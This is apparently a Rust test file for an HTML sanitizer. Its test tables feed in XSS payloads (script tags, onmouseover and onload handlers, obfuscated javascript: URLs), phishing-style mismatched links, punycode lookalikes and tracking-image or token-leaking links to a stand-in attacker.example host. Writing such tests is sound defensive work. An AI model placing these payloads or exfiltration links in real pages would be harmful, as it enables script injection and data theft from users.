//! Tests of the HTML cleaner.

use super::*;

fn policy() -> ContentPolicy {
    ContentPolicy {
        trusted_domains: vec!["trusted.example".into()],
        ..ContentPolicy::default()
    }
}

fn run_clean(html: &str) -> (Option<String>, Vec<Code>) {
    let mut f = Findings::new("/t");
    let out = clean(html, &policy(), &mut f).map(|c| c.html);
    (out, f.into_vec().into_iter().map(|f| f.code).collect())
}

#[test]
fn clean_documents_table() {
    // (input, expected output or None for unchanged, expected codes)
    let cases: &[(&str, Option<&str>, &[Code])] = &[
        ("<p>plain <b>bold</b></p>", None, &[]),
        ("<p>a &amp; b</p>", None, &[]),
        (
            "<script>alert(1)</script><p>x</p>",
            Some("<p>x</p>"),
            &[Code::HtmlSanitized],
        ),
        (
            "<b onmouseover=\"alert(1)\">hover me</b>",
            Some("<b>hover me</b>"),
            &[Code::HtmlSanitized],
        ),
        (
            "<iframe src=\"https://a.example/\"></iframe>ok",
            Some("ok"),
            &[Code::HtmlSanitized],
        ),
        (
            "<svg onload=alert(2)><text>t</text></svg>ok",
            Some("ok"),
            &[Code::HtmlSanitized],
        ),
        (
            "<p style=\"position:fixed\">x</p>",
            Some("<p>x</p>"),
            &[Code::HtmlSanitized],
        ),
        (
            "<form action=\"https://a.example\"><input name=p></form>",
            Some(""),
            &[Code::HtmlSanitized],
        ),
        (
            "<a href=\"javascript:alert(1)\">x</a>",
            Some("<a rel=\"noopener noreferrer\">x</a>"),
            &[Code::DangerousUrlScheme],
        ),
        (
            "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
            Some("<a rel=\"noopener noreferrer\">x</a>"),
            &[Code::DangerousUrlScheme],
        ),
        (
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            Some("<a rel=\"noopener noreferrer\">x</a>"),
            &[Code::DangerousUrlScheme],
        ),
        (
            "<a href=\"https://docs.example.com/guide\">g</a>",
            Some("<a href=\"https://docs.example.com/guide\" rel=\"noopener noreferrer\">g</a>"),
            &[],
        ),
        (
            "<a href=\"https://attacker.example/?token=abcd\">g</a>",
            Some("<a rel=\"noopener noreferrer\">g</a>"),
            &[Code::LinkExfiltration],
        ),
        (
            "<a href=\"https://trusted.example/?token=abcd\">g</a>",
            Some(
                "<a href=\"https://trusted.example/?token=abcd\" rel=\"noopener noreferrer\">g</a>",
            ),
            &[],
        ),
        (
            "<img src=\"https://attacker.example/t.gif?leak=1\">",
            Some(""),
            &[Code::ExternalImage],
        ),
        (
            "<img src=\"data:image/png;base64,AAAA\">",
            Some(""),
            &[Code::DangerousUrlScheme],
        ),
        (
            "<p>x<!-- hidden --></p>",
            Some("<p>x</p>"),
            &[Code::HiddenComment],
        ),
        ("<p class=\"c\">x</p>", Some("<p>x</p>"), &[]),
        (
            "<p>Sign in at <a href=\"https://attacker.example/login\">https://docs.example.com/login</a>.</p>",
            Some(
                "<p>Sign in at https://docs.example.com/login (link target: https://attacker.example/login).</p>",
            ),
            &[Code::LinkTextMismatch],
        ),
        (
            "<ul><li><a href=\"https://docs.xn--exmple-4nf.com/\"><b>docs.example.com</b></a></li></ul>",
            Some(
                "<ul><li>docs.example.com (link target: https://docs.xn--exmple-4nf.com/)</li></ul>",
            ),
            &[Code::LinkTextMismatch],
        ),
        (
            "<a href=\"https://www.example.com/guide\">docs.example.com/guide</a>",
            Some(
                "<a href=\"https://www.example.com/guide\" rel=\"noopener noreferrer\">docs.example.com/guide</a>",
            ),
            &[],
        ),
    ];
    for (input, expected, codes) in cases {
        let (out, found) = run_clean(input);
        assert_eq!(out.as_deref(), *expected, "output for {input:?}");
        for code in *codes {
            assert!(
                found.contains(code),
                "{code} missing for {input:?}: {found:?}"
            );
        }
        if codes.is_empty() {
            assert!(
                found.is_empty(),
                "unexpected findings for {input:?}: {found:?}"
            );
        }
    }
}

#[test]
fn deep_nesting_is_escaped_past_the_limit() {
    let html = format!("<p>{}x", "<div>".repeat(200));
    let (out, codes) = run_clean(&html);
    let out = out.unwrap();
    assert_eq!(codes, [Code::HtmlSanitized]);
    assert!(out.contains("&lt;div&gt;"));
    assert!(out.matches("<div>").count() <= guard::MAX_DEPTH);
    let (again, codes) = run_clean(&out);
    assert!(again.is_none() && codes.is_empty(), "not settled");
}

fn run_tag(tag: &str) -> (Option<String>, Vec<Code>) {
    let mut f = Findings::new("/t");
    let out = sanitize_tag(tag, &policy(), &mut f).map(|t| t.source);
    (out, f.into_vec().into_iter().map(|f| f.code).collect())
}

#[test]
fn inline_tags_table() {
    let cases: &[(&str, Option<&str>, &[Code])] = &[
        ("<b>", None, &[]),
        ("</b>", None, &[]),
        ("<String>", None, &[]),
        ("<T>", None, &[]),
        ("<dyn Fn>", None, &[]),
        ("</String>", None, &[]),
        ("<a href=\"https://docs.example.com/\">", None, &[]),
        ("<td colspan=\"2\">", None, &[]),
        (
            "<b onmouseover=\"alert(1)\">",
            Some("<b>"),
            &[Code::HtmlSanitized],
        ),
        (
            "<td onclick=\"alert(1)\">",
            Some(""),
            &[Code::HtmlSanitized],
        ),
        ("<tr onclick=alert(1)>", Some(""), &[Code::HtmlSanitized]),
        ("<svg onload=alert(2)>", Some(""), &[Code::HtmlSanitized]),
        ("</svg>", Some(""), &[]),
        ("<script>", Some(""), &[Code::HtmlSanitized]),
        ("</script>", Some(""), &[]),
        ("<foo onclick=\"x\">", Some(""), &[Code::HtmlSanitized]),
        ("<body onload=\"x\">", Some(""), &[Code::HtmlSanitized]),
        (
            "<img src=\"https://attacker.example/t.gif?leak=1\" alt=\"t\">",
            Some("\\[image: t (attacker.example)\\]"),
            &[Code::ExternalImage],
        ),
        (
            "<img src=x onerror=\"y\">",
            Some("\\[image\\]"),
            &[Code::HtmlSanitized],
        ),
        (
            "<a href=\"javascript:alert(1)\">",
            Some("<a rel=\"noopener noreferrer\">"),
            &[Code::DangerousUrlScheme],
        ),
    ];
    let bomb = guard::tests::numbered(4000, " x", "");
    let (out, found) = run_tag(&format!("<b title=t{bomb}>"));
    assert!(out.unwrap().starts_with("&lt;b title=t x0 x1"));
    assert_eq!(found, [Code::HtmlSanitized]);
    for (tag, expected, codes) in cases {
        let (out, found) = run_tag(tag);
        assert_eq!(out.as_deref(), *expected, "replacement for {tag:?}");
        for code in *codes {
            assert!(
                found.contains(code),
                "{code} missing for {tag:?}: {found:?}"
            );
        }
        if codes.is_empty() {
            assert!(
                found.is_empty(),
                "unexpected findings for {tag:?}: {found:?}"
            );
        }
    }
}

#[test]
fn probe_groups_attributes_per_element() {
    let elements = probe("<img src=a alt=one><img src=b><b onclick=x>t</b>");
    let names: Vec<_> = elements.iter().map(|e| e.name.as_str()).collect();
    assert_eq!(names, ["img", "img", "b"]);
    assert_eq!(elements[0].attr("alt"), Some("one"));
    assert_eq!(elements[1].attr("alt"), None);
    assert_eq!(elements[2].attr("onclick"), Some("x"));
}
